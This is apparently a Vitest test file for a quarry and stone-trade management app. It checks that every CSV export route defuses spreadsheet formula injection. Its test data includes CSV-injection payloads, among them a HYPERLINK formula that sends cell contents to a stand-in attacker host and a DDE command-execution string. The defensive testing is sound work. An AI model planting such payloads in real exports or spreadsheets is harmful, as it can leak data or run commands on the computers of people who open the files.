import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { todayInRome } from '../src/lib/dates.js';
import { oneBatch, streamExport } from '../src/lib/export.js';
import { MODULES } from '../src/modules.js';
import { csvRows } from './csv-helpers.js';
import {
  buildTestApp,
  createProductionLookups,
  setupCompany,
  type TestClient,
  type TestContext,
} from './helpers.js';
import { walkRoutes } from './security-helpers.js';

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A2;"Clicca")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1)',
];

let ctx: TestContext;
let admin: TestClient;

/** The cells of a `;` CSV, quotes undone (enough for these rows: no line breaks inside cells). */
function cells(body: string): string[] {
  return body
    .replace(/^\uFEFF/, '')
    .split('\r\n')
    .flatMap((line) => line.match(/("(?:[^"]|"")*"|[^;]*)(;|$)/g) ?? [])
    .map((cell) => cell.replace(/;$/, ''))
    .map((cell) => (cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell));
}

beforeAll(async () => {
  // one admin walks every export route: more than the per-user limit of a minute
  ctx = await buildTestApp({ RATE_LIMIT_EXPORTS: '1000' });
  const org = await setupCompany(ctx);
  admin = await org.adminClient();
  const [name, comune, tracciabilita, numero] = FORMULAS;
  const lookups = await createProductionLookups(admin);
  const anagrafica = {
    ragioneSociale: name,
    nazione: 'DE',
    indirizzo: 'Hauptstr. 1',
    comune,
    partitaIva: 'DE123456789',
  };
  const cliente = await admin.post('/api/clienti', anagrafica);
  expect(cliente.statusCode, cliente.body).toBe(201);
  const fornitore = await admin.post('/api/fornitori', anagrafica);
  expect(fornitore.statusCode, fornitore.body).toBe(201);
  const bancata = (
    await admin.post('/api/bancate', {
      cavaId: lookups.cavaId,
      materialeId: lookups.materialeId,
      dataTaglio: '2026-03-10',
      lunghezza: 1200,
      altezza: 600,
      profondita: 400,
      fronte: name,
    })
  ).json();
  for (const stato of ['in_taglio', 'ribaltata', 'in_riquadratura'])
    await admin.post(`/api/bancate/${bancata._id}/stato`, { stato });
  const blocco = await admin.post('/api/blocchi', {
    bancataId: bancata._id,
    ubicazioneId: lookups.ubicazioneId,
    lunghezza: 280,
    altezza: 150,
    profondita: 120,
    codiceTracciabilita: tracciabilita,
  });
  expect(blocco.statusCode, blocco.body).toBe(201);
  const esterno = await admin.post('/api/blocchi-esterni', {
    fornitoreId: fornitore.json()._id,
    numeroFornitore: numero,
    codiceTracciabilita: tracciabilita,
    dataAcquisto: '2026-02-01',
    prezzoAcquisto: 1850.5,
    unitaPrezzoAcquisto: 'm3',
    materialeId: lookups.materialeId,
    ubicazioneId: lookups.ubicazioneId,
    lunghezza: 300,
    altezza: 160,
    profondita: 140,
  });
  expect(esterno.statusCode, esterno.body).toBe(201);
  // a sawing for a terzista whose name is a formula
  const macchina = (
    await admin.post('/api/macchine', { nome: 'Telaio 1', tipo: 'telaio', kerfMm: 5, rifiloMm: 20 })
  ).json();
  const lavorazione = await admin.post('/api/lavorazioni-lastre', {
    bloccoId: esterno.json()._id,
    macchinaId: macchina._id,
    spessoreMm: 20,
    contoTerzi: true,
    terzistaId: fornitore.json()._id,
  });
  expect(lavorazione.statusCode, lavorazione.body).toBe(201);
  // stock in a place named as a formula: a bundle with its slabs, and a tile lot
  const scaffale = (await admin.post('/api/ubicazioni', { nome: name, tipo: 'scaffale' })).json();
  const lav = lavorazione.json();
  expect(
    (await admin.post(`/api/lavorazioni-lastre/${lav._id}/stato`, { stato: 'in_segagione' }))
      .statusCode,
  ).toBe(200);
  const completa = await admin.post(`/api/lavorazioni-lastre/${lav._id}/completa`, {
    numeroLastre: 2,
    lunghezzaMm: 2900,
    altezzaMm: 1500,
    ubicazioneId: scaffale._id,
  });
  expect(completa.statusCode, completa.body).toBe(200);
  // one slab sold to that cliente and a DDT drafted for it (its destinatario named as a formula); the other stays in stock
  const pacco = (await admin.get(`/api/magazzino/pacchi/${completa.json().pacchi[0]._id}`)).json();
  const lastraId = pacco.lastre[0]._id;
  expect(
    (
      await admin.post(`/api/magazzino/lastre/${lastraId}/vendi`, {
        clienteId: cliente.json()._id,
        prezzo: 85,
        unita: 'mq',
      })
    ).statusCode,
  ).toBe(200);
  const ddt = await admin.post('/api/ddt', {
    causale: 'vendita',
    clienteId: cliente.json()._id,
    trasportoACura: 'mittente',
    porto: 'franco',
    righe: [{ entityType: 'lastra', id: lastraId }],
  });
  expect(ddt.statusCode, ddt.body).toBe(201);
  // a draft invoice to the same cliente: the invoice list names it
  const fattura = await admin.post('/api/fatture', {
    clienteId: cliente.json()._id,
    tipoDocumento: 'TD01',
    data: todayInRome(),
    righe: [{ descrizione: '=1+2', prezzoUnitario: 10 }],
  });
  expect(fattura.statusCode, fattura.body).toBe(201);
  // a block of a stone whose name is a formula, for the tile cut (its export names the material)
  const pietra = (await admin.post('/api/materiali', { nome: name, densita: 2.7 })).json();
  const perTaglio = await admin.post('/api/blocchi-esterni', {
    fornitoreId: fornitore.json()._id,
    dataAcquisto: '2026-02-01',
    prezzoAcquisto: 1200,
    unitaPrezzoAcquisto: 'm3',
    materialeId: pietra._id,
    ubicazioneId: lookups.ubicazioneId,
    lunghezza: 200,
    altezza: 100,
    profondita: 100,
  });
  const taglio = (
    await admin.post('/api/lavorazioni-pavimenti', {
      bloccoId: perTaglio.json()._id,
      lunghezzaMm: 305,
      larghezzaMm: 305,
      spessoreMm: 10,
      finitura: 'lucidato',
      bordo: 'vivo',
      calibrato: true,
    })
  ).json();
  expect(
    (
      await admin.post(`/api/lavorazioni-pavimenti/${taglio._id}/stato`, {
        stato: 'in_lavorazione',
      })
    ).statusCode,
  ).toBe(200);
  expect(
    (
      await admin.post(`/api/lavorazioni-pavimenti/${taglio._id}/completa`, {
        pezzi: 100,
        pezziPerCassa: 10,
        ubicazioneId: scaffale._id,
      })
    ).statusCode,
  ).toBe(200);
  // a collaudo for that cliente, in a place and by an inspector named as formulas
  const collaudo = await admin.post('/api/collaudi', {
    data: '2026-03-12',
    clienteId: cliente.json()._id,
    luogo: name,
    ispettore: comune,
  });
  expect(collaudo.statusCode, collaudo.body).toBe(201);
  // each module that declares a sample of its list gets one with its text as a formula
  for (const module of MODULES) {
    if (!('exportSample' in module) || !module.exportSample) continue;
    const { path, body } = module.exportSample;
    const sample = await admin.post(path, body(name!));
    expect(sample.statusCode, `${path}: ${sample.body}`).toBe(201);
  }
});
afterAll(() => ctx.close());

describe('CSV exports neutralise formulas (docs/quality.md S16)', () => {
  it('every /export route writes text that would start a formula with a leading quote', async () => {
    const exports = walkRoutes(ctx.app).filter(
      (r) => r.method === 'GET' && r.url.endsWith('/export'),
    );
    expect(exports.map((r) => r.url)).toEqual(
      expect.arrayContaining([
        '/api/clienti/export',
        '/api/fornitori/export',
        '/api/bancate/export',
        '/api/blocchi/export',
        '/api/blocchi-esterni/export',
        '/api/lavorazioni-lastre/export',
        '/api/magazzino/pacchi/export',
        '/api/magazzino/lastre/export',
        '/api/magazzino/lotti/export',
        '/api/collaudi/export',
        '/api/ddt/export',
        '/api/fatture/export',
        '/api/statistiche/:section/export',
      ]),
    );
    // A route with a parameter is asked for the variant whose rows carry our names: the statistics of
    // purchases by fornitore (the bought-in blocks above come from the fornitore named as a formula).
    const variants: Record<string, { url: string; query: Record<string, string> }> = {
      '/api/statistiche/:section/export': {
        url: '/api/statistiche/acquisti/export',
        query: { per: 'fornitore', dal: '2026-01-01', al: '2026-12-31' },
      },
    };
    for (const route of exports) {
      const { url, query } = variants[route.url] ?? { url: route.url, query: {} };
      expect(url, `${route.url} needs a variant here`).not.toContain(':');
      const res = await admin.get(url, { query: { format: 'csv', ...query } });
      expect(res.statusCode, `${url}: ${res.body}`).toBe(200);
      const all = cells(res.body);
      expect(
        all.filter((c) => /^[=+\-@\t\r]/.test(c)),
        route.url,
      ).toEqual([]);
      expect(
        all.some((c) => FORMULAS.some((f) => c === `'${f}`)),
        route.url,
      ).toBe(true);
    }
  });

  it('keeps numbers numbers, negative ones included; only text is quoted', async () => {
    const out = await streamExport({
      format: 'csv',
      sheet: 'Prova',
      baseName: 'prova',
      columns: [
        { header: 'Numero', value: (r: { n: number; t: string }) => r.n },
        { header: 'Testo', value: (r: { n: number; t: string }) => r.t },
      ],
      batches: oneBatch(Promise.resolve([{ n: -12.5, t: '-12,5' }])),
    });
    let body = '';
    for await (const chunk of out.stream) body += String(chunk);
    expect(body.replace(/^\uFEFF/, '').split('\r\n')[1]).toBe(`-12,5;"'-12,5"`);
  });
});

describe('CSV formulas hidden behind a separator', () => {
  it('no cell starts a formula whether the file is read on semicolons, commas or tabs, and every text reads back as written but for the quote', async () => {
    const texts = [
      'Rossi SRL,=1+2*3',
      'Nome\t=1+2',
      'Via Roma; @SUM(A1)',
      'prima riga\n+cmd',
      'Bianchi, -2+3',
      'citata,"=1"',
      '=HYPERLINK("x")',
      'Marmi, Carrara',
    ];
    const out = await streamExport({
      format: 'csv',
      sheet: 'Prova',
      baseName: 'prova',
      columns: [
        { header: 'Testo', value: (t: string) => t },
        { header: 'Quantità', value: () => 12.5 },
      ],
      batches: oneBatch(Promise.resolve(texts)),
    });
    let body = '';
    for await (const chunk of out.stream) body += String(chunk);
    for (const separator of [';', ',', '\t']) {
      const all = csvRows(body, separator).flat();
      // a trimming reader drops the spaces and stray quotes before what it evaluates
      expect(
        all.filter((c) => /^[=+\-@]/.test(c.replace(/^[\s"]+/, ''))),
        JSON.stringify(separator),
      ).toEqual([]);
    }
    expect(csvRows(body).slice(1)).toEqual(
      [
        "Rossi SRL,'=1+2*3",
        "Nome\t'=1+2",
        "Via Roma; '@SUM(A1)",
        "prima riga\n'+cmd",
        "Bianchi, '-2+3",
        'citata,"\'=1"',
        `'=HYPERLINK("x")`,
        'Marmi, Carrara',
      ].map((t) => [t, '12,5']),
    );
  });
});
